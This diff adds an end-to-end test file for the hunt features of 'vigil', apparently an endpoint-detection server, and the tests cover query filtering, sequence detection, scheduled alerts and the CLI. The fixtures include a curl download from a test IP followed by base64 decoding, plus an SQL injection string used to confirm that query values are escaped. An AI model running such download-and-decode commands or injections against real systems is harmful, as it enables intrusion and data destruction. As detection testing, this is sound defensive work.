@@ -1,0 +1,114 @@
+// End-to-end hunting on a real server: query-language hunts over posted events (filters, stats, sequences), located
+// compile errors, a scheduled hunt that raises an alert, and the `vigil hunt` CLI.
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { randomUUID } from 'node:crypto';
+import { join } from 'node:path';
+import { spawnSync } from 'node:child_process';
+import { repoRoot } from '@vigil/common';
+import { ApiClient, cleanup, request, startServer, waitFor, type ServerHandle } from './harness.js';
+import { batchBody } from './events.js';
+
+let server: ServerHandle;
+let api: ApiClient;
+let hostA: { agentId: string; key: string; cert: string };
+let hostB: { agentId: string; key: string; cert: string };
+const sequences = new Map<string, number>();
+
+before(async () => {
+  server = await startServer();
+  api = await new ApiClient(server).login();
+  hostA = await api.enrollKeys();
+  hostB = await api.enrollKeys();
+});
+after(cleanup);
+
+function event(host: string, category: string, action: string, fields: Record<string, unknown>, offsetMs = 0): Record<string, unknown> {
+  const sequence = (sequences.get(host) ?? 0) + 1;
+  sequences.set(host, sequence);
+  return { '@timestamp': new Date(Date.now() - 60_000 + offsetMs).toISOString(), 'event.id': randomUUID(), 'event.sequence': sequence, 'event.category': category, 'event.action': action, 'host.id': host, ...fields };
+}
+
+async function post(agent: { agentId: string; key: string; cert: string }, events: Record<string, unknown>[]): Promise<void> {
+  const reply = await request(`https://127.0.0.1:${server.agentPort}/agent/v1/events`, { raw: batchBody(agent.agentId, events), ca: server.caPem, key: agent.key, cert: agent.cert });
+  assert.equal(reply.status, 200, JSON.stringify(reply.body));
+}
+
+async function hunt(query: string, extra: Record<string, unknown> = {}) {
+  return api.post('/api/v1/hunt', { query, ...extra });
+}
+
+test('hunts filter, aggregate and find ordered sequences over every host', async () => {
+  const proc = (host: string, exe: string, commandLine: string, offset: number) =>
+    event(host, 'process', 'start', { 'process.pid': 100 + offset, 'process.executable': exe, 'process.name': exe.split('/').pop(), 'process.command_line': commandLine, 'user.name': 'www-data' }, offset);
+  await post(hostA, [
+    proc(hostA.agentId, '/usr/bin/curl', 'curl -o /tmp/x http://203.0.113.7/x', 0),
+    event(hostA.agentId, 'network', 'connect', { 'process.pid': 101, 'destination.ip': '203.0.113.7', 'destination.port': 443, 'network.transport': 'tcp' }, 500),
+    proc(hostA.agentId, '/usr/bin/base64', 'base64 -d /tmp/x', 1000),
+  ]);
+  await post(hostB, [proc(hostB.agentId, '/usr/bin/base64', 'base64 -d payload', 0), proc(hostB.agentId, '/usr/bin/ls', 'ls -la', 10)]);
+
+  const filtered = await hunt('process where process.command_line contains "BASE64 -D"');
+  assert.equal(filtered.status, 200, JSON.stringify(filtered.body));
+  assert.equal(filtered.body.kind, 'events');
+  assert.equal(filtered.body.rows.length, 2);
+
+  const stats = await hunt('process | stats count() as n by host.id | sort n desc, host.id asc');
+  assert.deepEqual(stats.body.rows.map((r: Record<string, unknown>) => [r['host.id'], r.n]), [[hostA.agentId, 2], [hostB.agentId, 2]].sort((a, b) => String(a[0]).localeCompare(String(b[0]))));
+
+  const cidr = await hunt('network where destination.ip in cidr("203.0.113.0/24") and destination.port == 443');
+  assert.equal(cidr.body.rows.length, 1);
+
+  const chain = await hunt('sequence by host.id maxspan=5m [process where process.name == "curl"] [network where destination.port == 443] [process where process.name == "base64"]');
+  assert.equal(chain.status, 200, JSON.stringify(chain.body));
+  assert.equal(chain.body.kind, 'sequence');
+  assert.equal(chain.body.rows.length, 1);
+  assert.equal(chain.body.rows[0]['host.id'], hostA.agentId);
+
+  const scoped = await hunt('process.name == "base64"', { host_ids: [hostB.agentId] });
+  assert.equal(scoped.body.rows.length, 1);
+});
+
+test('a query that does not compile is refused with the column and a hint; values never change the SQL', async () => {
+  const bad = await hunt('process where proces.name == "x"');
+  assert.equal(bad.status, 400);
+  assert.equal(bad.body.error.location.column, 15);
+  assert.match(JSON.stringify(bad.body.error), /process\.name/);
+  const hostile = await hunt(`process where process.command_line contains "'; DROP TABLE events_process; --"`);
+  assert.equal(hostile.status, 200);
+  assert.equal(hostile.body.rows.length, 0);
+  const still = await hunt('process | stats count() as n');
+  assert.equal(still.body.rows[0].n, 4);
+});
+
+test('a scheduled hunt with a threshold raises an alert', async () => {
+  // A new scheduled hunt first looks back one interval: this event is inside it, the earlier ones are not.
+  await post(hostA, [event(hostA.agentId, 'process', 'start', { 'process.pid': 999, 'process.executable': '/usr/bin/base64', 'process.name': 'base64', 'process.command_line': 'base64 -d /tmp/y' }, 60_000)]);
+  const saved = await api.post('/api/v1/hunts', { name: 'decode into files', query: 'process where process.name == "base64" and process.command_line contains "/tmp/"', interval_s: 10, threshold: 1, level: 'high', tags: ['attack.t1140'] });
+  assert.equal(saved.status, 201, JSON.stringify(saved.body));
+  const alert = await waitFor('the scheduled hunt to raise an alert', async () => {
+    const alerts = (await api.get(`/api/v1/alerts?rule_id=${encodeURIComponent(`hunt:${saved.body.id}`)}`)).body as { hostId: string; kind: string; level: string }[];
+    return alerts[0];
+  }, 15_000);
+  assert.equal(alert.kind, 'hunt');
+  assert.equal(alert.hostId, hostA.agentId);
+  assert.equal(alert.level, 'high');
+  const list = (await api.get('/api/v1/hunts')).body as { id: string; lastRows: number }[];
+  assert.equal(list.find((h) => h.id === saved.body.id)?.lastRows, 1);
+  const refused = await api.post('/api/v1/hunts', { name: 'broken', query: 'process where nonsense.field == 1' });
+  assert.equal(refused.status, 400);
+});
+
+test('vigil hunt prints a table or JSON lines', async () => {
+  const token = (await api.post('/api/v1/api-tokens', { name: 'cli', role: 'viewer' })).body.token as string;
+  const cli = join(repoRoot(), 'apps', 'cli', 'bin', 'vigil.js');
+  const args = ['hunt', 'process | stats count() as n by process.name | sort process.name', '--server', server.apiUrl, '--ca-file', join(server.dataDir, 'pki', 'ca.crt')];
+  const table = spawnSync(process.execPath, [cli, ...args], { env: { ...process.env, VIGIL_API_TOKEN: token }, encoding: 'utf8' });
+  assert.equal(table.status, 0, table.stderr);
+  assert.match(table.stdout, /^process\.name\s+n\n-+\s+-+\nbase64\s+3\ncurl\s+1\nls\s+1$/m);
+  const json = spawnSync(process.execPath, [cli, ...args, '--json'], { env: { ...process.env, VIGIL_API_TOKEN: token }, encoding: 'utf8' });
+  assert.deepEqual(json.stdout.trim().split('\n').map((line) => JSON.parse(line)), [{ 'process.name': 'base64', n: 3 }, { 'process.name': 'curl', n: 1 }, { 'process.name': 'ls', n: 1 }]);
+  const bad = spawnSync(process.execPath, [cli, 'hunt', 'process where x ==', ...args.slice(2)], { env: { ...process.env, VIGIL_API_TOKEN: token }, encoding: 'utf8' });
+  assert.equal(bad.status, 1);
+  assert.match(bad.stderr, /vigil hunt: /);
+});
